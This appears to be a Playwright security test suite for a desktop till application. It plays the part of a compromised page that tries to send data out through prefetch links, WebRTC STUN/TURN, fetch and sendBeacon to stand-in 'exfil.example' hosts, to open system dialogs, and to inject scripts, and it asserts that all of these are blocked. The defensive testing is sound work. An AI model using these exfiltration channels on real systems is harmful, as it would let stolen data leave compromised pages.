import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import type { Page } from '@playwright/test';
import { listWindows } from '../support/displays/list-windows.ts';
import { readNetLog } from '../support/journey/net-log.ts';
import { expect, test } from './fixtures.ts';

/** What a page that was taken over could reach beside requests: packets, look-ups, and the dialogs of the system. */

/** A server of this machine that counts what arrives over UDP and TCP. */
async function startListener() {
  let packets = 0;
  let connections = 0;
  const udp = createSocket('udp4').on('message', () => packets++);
  const tcp = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  udp.bind(0, '127.0.0.1');
  tcp.listen(0, '127.0.0.1');
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')]);
  return {
    udpPort: udp.address().port,
    tcpPort: (tcp.address() as AddressInfo).port,
    arrived: () => ({ packets, connections }),
    close() {
      udp.close();
      tcp.close();
    },
  };
}

/** Tries every way out that is not a request, and some that are. Ends when WebRTC has nothing left to try. */
function tryToLeave(page: Page, udpPort: number, tcpPort: number): Promise<void> {
  return page.evaluate(
    async ({ udp, tcp }) => {
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender']) {
        for (const host of [`${rel}.exfil.example`, `127.0.0.1:${tcp}`]) {
          const link = document.createElement('link');
          Object.assign(link, { rel, href: `https://${host}/`, as: 'script' });
          document.head.append(link);
        }
      }
      const keys = { username: 'till', credential: 'secret' };
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: [`stun:127.0.0.1:${udp}`, 'stun:stun.exfil.example:3478'] },
          { urls: [`turn:127.0.0.1:${udp}?transport=udp`, `turn:127.0.0.1:${tcp}?transport=tcp`], ...keys },
          { urls: ['turn:turn.exfil.example:3478?transport=tcp'], ...keys },
        ],
      });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
      await fetch('https://fetch.exfil.example/').catch(() => undefined);
      navigator.sendBeacon('https://beacon.exfil.example/', 'x');
      // ICE asks a server again and again; after this time it has asked several times.
      await new Promise((done) => setTimeout(done, 3_000));
      peer.close();
    },
    { udp: udpPort, tcp: tcpPort },
  );
}

test('no page looks up a name, sends a packet or begins a connection, and neither does Chromium by itself', async ({
  launchApp,
}, testInfo) => {
  const file = testInfo.outputPath('net-log.json');
  const listener = await startListener();
  const till = await launchApp({ args: [`--log-net-log=${file}`, '--net-log-capture-mode=Everything'] });
  const pages = await Promise.all([till.cashier(), till.customer()]);
  await Promise.all(pages.map((page) => tryToLeave(page, listener.udpPort, listener.tcpPort)));
  await Promise.all([till.app.waitForEvent('close'), till.app.evaluate(({ app }) => app.quit())]);
  const arrived = listener.arrived();
  listener.close();
  expect(arrived).toEqual({ packets: 0, connections: 0 });
  const log = await readNetLog(file);
  // The log is alive: it has at least what Chromium writes at its start.
  expect(log.events).toBeGreaterThan(10);
  expect(log).toEqual({ events: log.events, requests: [], lookUps: [], connections: [], packets: 0 });
});

/** Every way in which a script can open a dialog of the system. Each is tried with the activation of a click. */
const DIALOGS: Readonly<Record<string, () => unknown>> = {
  'a file input in the page': () => {
    const input = document.createElement('input');
    input.type = 'file';
    document.body.append(input);
    input.click();
  },
  'a file input beside the page': () => {
    const input = document.createElement('input');
    input.type = 'file';
    input.click();
  },
  'the picker of a folder input': () => {
    const input = document.createElement('input');
    Object.assign(input, { type: 'file', webkitdirectory: true });
    input.showPicker();
  },
  'a file input in a frame': () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const input = frame.contentDocument?.createElement('input');
    if (input === undefined) return;
    input.type = 'file';
    frame.contentDocument?.body.append(input);
    input.click();
  },
  'the pickers of a script': () => {
    const open = globalThis as unknown as Record<string, (() => Promise<unknown>) | undefined>;
    for (const name of ['showDirectoryPicker', 'showOpenFilePicker', 'showSaveFilePicker'])
      open[name]?.().catch(() => undefined);
  },
  'a download of a file of ours': () => {
    const link = document.createElement('a');
    link.href = location.href;
    link.download = 'page.html';
    document.body.append(link);
    link.click();
  },
  'a download of own bytes': () => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['x']));
    link.download = 'x.txt';
    document.body.append(link);
    link.click();
  },
  'the print dialog': () => void setTimeout(() => window.print(), 0),
  'the print command': () => document.execCommand('print'),
  'a message': () => void setTimeout(() => alert('x'), 0),
};

test('no page opens a dialog of the system, not even after a reload', async ({ launchApp, displays }) => {
  const till = await launchApp();
  const pages = await Promise.all([till.cashier(), till.customer()]);
  await expect(pages[0].locator('[data-screen]').first()).toBeVisible();
  const before = await listWindows(displays.display);
  // The customer's window has no frame and no focus, so the window manager does not list it.
  expect(before.length).toBeGreaterThanOrEqual(1);
  for (const page of pages) {
    for (const round of ['first load', 'reloaded']) {
      for (const [name, attempt] of Object.entries(DIALOGS)) {
        // A call that makes a frame is broken off (see security-network.spec.ts); what it did stays done.
        await page.evaluate(attempt).catch(() => undefined);
        // A dialog is another window after some frames.
        await pause(400);
        expect([name, round, await listWindows(displays.display)]).toEqual([name, round, before]);
      }
      await page.reload();
    }
  }
  const log = await readFile(join(till.dataDir, 'logs', 'balcao.log'), 'utf8');
  // They were tried: main saw them.
  expect(log.split('\n').filter((line) => line.includes('file-input-refused')).length).toBeGreaterThanOrEqual(
    12,
  );
});

test('a text cannot become markup or a script', async ({ launchApp }) => {
  const till = await launchApp();
  const codes = await (
    await till.cashier()
  ).evaluate(() => {
    const attempt = (act: () => unknown): string => {
      try {
        act();
        return 'allowed';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : String(error);
      }
    };
    return [
      attempt(() => (document.createElement('div').innerHTML = '<b>x</b>')),
      attempt(() => (document.createElement('script').src = '/cashier/x.js')),
      attempt(
        () => document.createElement('script').append('1') ?? (document.createElement('script').text = '1'),
      ),
    ];
  });
  expect(codes).toEqual(['refused', 'refused', 'refused']);
});
